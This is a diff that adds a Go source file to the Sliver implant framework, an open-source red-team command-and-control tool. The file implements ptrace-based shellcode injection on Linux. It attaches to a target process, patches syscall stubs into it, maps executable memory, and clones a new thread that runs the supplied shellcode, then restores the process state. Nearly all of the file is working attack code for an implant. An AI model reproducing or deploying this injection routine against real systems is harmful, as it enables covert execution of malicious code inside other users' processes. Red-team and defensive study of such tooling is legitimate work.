@@ -0,0 +1,167 @@
+//go:build linux && amd64
+// +build linux,amd64
+
+package taskrunner
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"fmt"
+	"runtime"
+	"syscall"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+)
+
+const (
+	ptraceStackSize = 0x100000
+
+	sysMmap  = 9
+	sysClone = 56
+
+	cloneThreadFlags = syscall.CLONE_VM | syscall.CLONE_FS | syscall.CLONE_FILES |
+		syscall.CLONE_SIGHAND | syscall.CLONE_THREAD | syscall.CLONE_SYSVSEM
+)
+
+var (
+	// syscall; int3
+	ptraceSyscallStub = []byte{0x0f, 0x05, 0xcc}
+
+	// syscall (clone); test rax, rax; jz +1; int3 - the new thread falls
+	// through into the shellcode, the original thread traps back to us
+	ptraceCloneStub = []byte{0x0f, 0x05, 0x48, 0x85, 0xc0, 0x74, 0x01, 0xcc}
+)
+
+// ptraceInject - Run shellcode in a new thread of the target process. A stub
+// at the current instruction pointer maps memory for the shellcode and a stack,
+// a second stub in that memory clones a thread into the shellcode, and then the
+// original registers and code are restored before we detach.
+func ptraceInject(pid int, data []byte) error {
+	// All ptrace requests must come from the thread that attached
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+
+	err := syscall.PtraceAttach(pid)
+	if err != nil {
+		return err
+	}
+	defer syscall.PtraceDetach(pid)
+	err = ptraceWait(pid)
+	if err != nil {
+		return err
+	}
+
+	var saved syscall.PtraceRegs
+	err = syscall.PtraceGetRegs(pid, &saved)
+	if err != nil {
+		return err
+	}
+	defer syscall.PtraceSetRegs(pid, &saved)
+
+	origCode := make([]byte, len(ptraceSyscallStub))
+	_, err = syscall.PtracePeekText(pid, uintptr(saved.Rip), origCode)
+	if err != nil {
+		return err
+	}
+	_, err = syscall.PtracePokeText(pid, uintptr(saved.Rip), ptraceSyscallStub)
+	if err != nil {
+		return err
+	}
+	size := uint64(len(ptraceCloneStub) + len(data) + ptraceStackSize)
+	regs := saved
+	regs.Rax = sysMmap
+	regs.Rdi = 0
+	regs.Rsi = size
+	regs.Rdx = syscall.PROT_READ | syscall.PROT_WRITE | syscall.PROT_EXEC
+	regs.R10 = syscall.MAP_PRIVATE | syscall.MAP_ANONYMOUS
+	regs.R8 = ^uint64(0) // fd -1
+	regs.R9 = 0
+	addr, err := ptraceRun(pid, saved.Rip, regs)
+	// Put back the original code even if the mmap failed
+	if _, pokeErr := syscall.PtracePokeText(pid, uintptr(saved.Rip), origCode); pokeErr != nil && err == nil {
+		err = pokeErr
+	}
+	if err != nil {
+		return err
+	}
+	// {{if .Debug}}
+	log.Printf("[ptrace] mapped %d bytes at 0x%x in pid %d", size, addr, pid)
+	// {{end}}
+
+	code := append(append([]byte{}, ptraceCloneStub...), data...)
+	_, err = syscall.PtracePokeText(pid, uintptr(addr), code)
+	if err != nil {
+		return err
+	}
+	regs = saved
+	regs.Rax = sysClone
+	regs.Rdi = cloneThreadFlags
+	regs.Rsi = (addr + size) &^ 0xf // Top of the new thread's stack
+	regs.Rdx = 0
+	regs.R10 = 0
+	regs.R8 = 0
+	_, err = ptraceRun(pid, addr, regs)
+	if err != nil {
+		return err
+	}
+	// {{if .Debug}}
+	log.Printf("[ptrace] started shellcode thread at 0x%x in pid %d", addr+uint64(len(ptraceCloneStub)), pid)
+	// {{end}}
+	return nil
+}
+
+// ptraceRun - Run a syscall stub at rip with regs, returns the syscall's result
+func ptraceRun(pid int, rip uint64, regs syscall.PtraceRegs) (uint64, error) {
+	regs.Rip = rip
+	regs.Orig_rax = ^uint64(0) // Don't let the kernel restart an interrupted syscall
+	err := syscall.PtraceSetRegs(pid, &regs)
+	if err != nil {
+		return 0, err
+	}
+	err = syscall.PtraceCont(pid, 0)
+	if err != nil {
+		return 0, err
+	}
+	err = ptraceWait(pid)
+	if err != nil {
+		return 0, err
+	}
+	err = syscall.PtraceGetRegs(pid, &regs)
+	if err != nil {
+		return 0, err
+	}
+	if errno := int64(regs.Rax); -4096 < errno && errno < 0 {
+		return 0, syscall.Errno(-errno)
+	}
+	return regs.Rax, nil
+}
+
+func ptraceWait(pid int) error {
+	var status syscall.WaitStatus
+	_, err := syscall.Wait4(pid, &status, syscall.WALL, nil)
+	if err != nil {
+		return err
+	}
+	if !status.Stopped() {
+		return fmt.Errorf("Process %d did not stop (%v)", pid, status)
+	}
+	return nil
+}